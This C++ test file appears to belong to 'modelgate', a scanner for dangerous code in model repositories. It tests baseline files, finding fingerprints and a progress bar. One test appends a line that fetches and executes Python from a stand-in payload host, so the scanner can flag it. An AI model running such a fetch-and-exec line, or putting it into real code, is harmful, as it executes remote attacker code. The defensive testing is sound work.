// Baselines and fingerprints as a project adopting modelgate relies on them: write a baseline,
// edit the code around the findings, rescan: the old ones are "existing" and do not fail the run,
// a new dangerous line does. Also: fingerprints survive inserted lines in every example, and the
// progress bar shows only on a terminal.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <set>

#include "../support/run_command.hpp"
#include "../support/temp_repo.hpp"
#include "cli/progress.hpp"

namespace {

namespace fs = std::filesystem;

using Run = mg::test::CommandRun;
using mg::test::slurp;

Run sh(const std::string& command) { return mg::test::run_command(command); }

const std::string kBinary = std::string(MODELGATE_BINARY_DIR) + "/modelgate";
const std::string kExamples = std::string(MODELGATE_SOURCE_DIR) + "/examples/";

Run modelgate(const std::string& args) { return sh(kBinary + " " + args); }

void copy_example(const std::string& name, const fs::path& to) {
  fs::copy(kExamples + name, to, fs::copy_options::recursive | fs::copy_options::overwrite_existing);
}

void prepend(const fs::path& file, const std::string& text) {
  const std::string old = slurp(file.string());
  std::ofstream(file, std::ios::binary | std::ios::trunc) << text << old;
}

void append(const fs::path& file, const std::string& text) { std::ofstream(file, std::ios::binary | std::ios::app) << text; }

// (fingerprint -> rule) of a JSON report, with the baseline state when there is one.
struct Seen {
  std::string rule;
  std::string state;
};
std::map<std::string, Seen> fingerprints(const std::string& json_text) {
  std::map<std::string, Seen> out;
  const auto doc = nlohmann::json::parse(json_text, nullptr, false);
  if (doc.is_discarded()) return out;
  for (const auto& t : doc["targets"]) {
    for (const auto& f : t["findings"]) {
      out[f["fingerprint"].get<std::string>()] = {f["rule_id"].get<std::string>(), f.value("baseline_state", std::string())};
    }
  }
  return out;
}

TEST(Baseline, RoundTripSurvivesMovedLinesAndFailsOnlyOnNewFindings) {
  mg::test::TempRepo dir;
  const fs::path repo = dir.path("repo");
  copy_example("malicious-remote-code", repo);
  const std::string baseline = dir.path("baseline.json");

  const auto first = modelgate("scan -q --write-baseline " + baseline + " -f json " + repo.string());
  ASSERT_EQ(first.code, 1);
  const auto original = fingerprints(first.out);
  ASSERT_GE(original.size(), 5u);

  // The file is the documented, versioned format.
  const auto doc = nlohmann::json::parse(slurp(baseline), nullptr, false);
  ASSERT_FALSE(doc.is_discarded());
  EXPECT_EQ(doc["modelgate_baseline"], 1);
  ASSERT_EQ(doc["findings"].size(), original.size());
  for (const auto& f : doc["findings"]) {
    for (const char* key : {"fingerprint", "rule_id", "target", "file", "line", "message"}) EXPECT_TRUE(f.contains(key)) << key;
  }

  // Lines inserted above every finding: same fingerprints, all existing, exit 0.
  prepend(repo / "modeling_evil.py", "# reviewed 2026-11-30\n# see SECURITY.md\n\n\n");
  const auto moved = modelgate("scan -q --baseline " + baseline + " -f json " + repo.string());
  EXPECT_EQ(moved.code, 0) << moved.err;
  const auto after = fingerprints(moved.out);
  EXPECT_EQ(after.size(), original.size());
  for (const auto& [fp, seen] : after) {
    EXPECT_TRUE(original.count(fp)) << seen.rule << " changed fingerprint when lines moved";
    EXPECT_EQ(seen.state, "existing") << seen.rule;
  }

  // A new dangerous line: exit 1, and only its findings are new.
  append(repo / "modeling_evil.py", "\nexec(requests.get(\"https://payload.example.invalid/x.py\", timeout=5).text)\n");
  const auto added = modelgate("scan -q --baseline " + baseline + " -f json " + repo.string());
  EXPECT_EQ(added.code, 1);
  const nlohmann::json report = nlohmann::json::parse(added.out, nullptr, false);
  ASSERT_FALSE(report.is_discarded());
  const int last_line = [&] {
    std::ifstream in(repo / "modeling_evil.py");
    int n = 0;
    for (std::string l; std::getline(in, l);) ++n;
    return n;
  }();
  std::size_t fresh = 0;
  for (const auto& f : report["targets"][0]["findings"]) {
    if (f["baseline_state"] == "new") {
      ++fresh;
      EXPECT_EQ(f["line"], last_line) << f["rule_id"];
    } else {
      EXPECT_EQ(f["baseline_state"], "existing");
    }
  }
  EXPECT_GE(fresh, 1u);

  // SARIF: baselineState "new" / "unchanged".
  const auto sarif = modelgate("scan -q --baseline " + baseline + " -f sarif " + repo.string());
  EXPECT_NE(sarif.out.find("\"baselineState\": \"new\""), std::string::npos);
  EXPECT_NE(sarif.out.find("\"baselineState\": \"unchanged\""), std::string::npos);

  // Text: existing ones are counted, listed only with --show-existing.
  const auto text = modelgate("scan -q --baseline " + baseline + " " + repo.string());
  EXPECT_NE(text.out.find(std::to_string(original.size()) + " existing findings (in the baseline) not listed"), std::string::npos) << text.out;
  EXPECT_EQ(text.out.find("[existing]"), std::string::npos);
  EXPECT_NE(modelgate("scan -q --show-existing --baseline " + baseline + " " + repo.string()).out.find("[existing]"), std::string::npos);
}

TEST(Baseline, RenamingTheFileMakesFindingsNew) {
  mg::test::TempRepo dir;
  const fs::path repo = dir.path("repo");
  copy_example("malicious-remote-code", repo);
  const std::string baseline = dir.path("baseline.json");
  ASSERT_EQ(modelgate("scan -q --write-baseline " + baseline + " " + repo.string()).code, 1);
  fs::rename(repo / "modeling_evil.py", repo / "modeling_evil2.py");
  std::string config = slurp((repo / "config.json").string());
  for (std::size_t at; (at = config.find("modeling_evil.")) != std::string::npos;) config.replace(at, 14, "modeling_evil2.");
  std::ofstream(repo / "config.json", std::ios::trunc) << config;
  EXPECT_EQ(modelgate("scan -q --baseline " + baseline + " " + repo.string()).code, 1);
}

TEST(Baseline, MissingOrMalformedBaselineIsExitTwo) {
  mg::test::TempRepo dir;
  const std::string target = kExamples + "clean-safetensors";
  auto r = modelgate("scan -q --baseline " + dir.path("none.json") + " " + target);
  EXPECT_EQ(r.code, 2);
  EXPECT_NE(r.err.find("no such baseline file"), std::string::npos) << r.err;
  const std::pair<std::string, std::string> bad[] = {
      {"{ not json", "not valid JSON"},
      {"[]", "top level is not an object"},
      {"{\"findings\": []}", "no \"modelgate_baseline\""},
      {"{\"modelgate_baseline\": 2, \"findings\": []}", "version 2 is not supported"},
      {"{\"modelgate_baseline\": 1}", "no \"findings\" array"},
      {"{\"modelgate_baseline\": 1, \"findings\": [{\"fingerprint\": \"xyz\"}]}", "findings[0]: \"fingerprint\""},
      {std::string(100000, '['), "nested too deep"},
  };
  for (const auto& [text, expected] : bad) {
    dir.write("b.json", text);
    r = modelgate("scan -q --baseline " + dir.path("b.json") + " " + target);
    EXPECT_EQ(r.code, 2) << text.substr(0, 40);
    EXPECT_NE(r.err.find(expected), std::string::npos) << r.err;
  }
  dir.write("b.json", "{\"modelgate_baseline\": 1, \"findings\": []}");
  EXPECT_EQ(modelgate("scan -q --baseline " + dir.path("b.json") + " " + target).code, 0);
}

// Fingerprints must not move with lines: for every example, insert lines at the top of every
// Python file and compare the sets.
TEST(Fingerprint, StableWhenLinesAreInsertedAboveInEveryExample) {
  for (const auto& entry : fs::directory_iterator(kExamples)) {
    if (!entry.is_directory()) continue;
    mg::test::TempRepo dir;
    const fs::path repo = dir.path("repo");
    copy_example(entry.path().filename().string(), repo);
    const auto before = fingerprints(modelgate("scan -q -f json --fail-on none " + repo.string()).out);
    std::size_t touched = 0;
    for (const auto& f : fs::recursive_directory_iterator(repo)) {
      if (f.is_regular_file() && f.path().extension() == ".py") {
        prepend(f.path(), "# inserted\n\n\"\"\"and a docstring\nof three lines\"\"\"\n");
        ++touched;
      }
    }
    if (touched == 0) continue;
    const auto after = fingerprints(modelgate("scan -q -f json --fail-on none " + repo.string()).out);
    std::set<std::string> a, b;
    for (const auto& [fp, s] : before) a.insert(s.rule + " " + fp);
    for (const auto& [fp, s] : after) b.insert(s.rule + " " + fp);
    EXPECT_EQ(a, b) << entry.path().filename();
  }
}

TEST(Progress, RenderedLine) {
  const std::string line = mg::ProgressBar::render(3, 12, 6.0, "targets/s", "hf:org/model", 120);
  EXPECT_NE(line.find("3/12"), std::string::npos) << line;
  EXPECT_NE(line.find("0.50 targets/s"), std::string::npos) << line;
  EXPECT_NE(line.find("ETA 0:18"), std::string::npos) << line;
  EXPECT_NE(line.find("[######.................."), std::string::npos) << line;
  EXPECT_LE(mg::ProgressBar::render(3, 12, 6.0, "targets/s", std::string(500, 'x'), 80).size(), 79u);
  EXPECT_EQ(mg::format_duration(3725), "1:02:05");
  EXPECT_EQ(mg::format_duration(-1), "?");
}

TEST(Progress, SilentWhenStderrIsNotATerminal) {
  const std::string targets = kExamples + "clean-safetensors " + kExamples + "pickle-checkpoint " + kExamples + "torchhub-hubconf";
  const auto r = modelgate("scan --fail-on none " + targets);
  EXPECT_EQ(r.err.find('\r'), std::string::npos);
  EXPECT_EQ(r.err.find("targets/s"), std::string::npos);
}

// On a terminal (a pty from `script`, bsdutils: essential on Debian), a multi-target scan draws the bar; --quiet
// does not.
TEST(Progress, DrawnOnATerminal) {
  const std::string targets = kExamples + "clean-safetensors " + kExamples + "pickle-checkpoint " + kExamples + "torchhub-hubconf";
  mg::test::TempRepo dir;
  const std::string out = dir.path("out.txt");
  const auto shown = sh("script -qec '" + kBinary + " scan --fail-on none -o " + out + " " + targets + "' /dev/null");
  EXPECT_NE(shown.out.find("targets/s"), std::string::npos) << shown.out;
  EXPECT_NE(shown.out.find("/3"), std::string::npos) << shown.out;
  const auto quiet = sh("script -qec '" + kBinary + " scan -q --fail-on none -o " + out + " " + targets + "' /dev/null");
  EXPECT_EQ(quiet.out.find("targets/s"), std::string::npos) << quiet.out;
}

}  // namespace
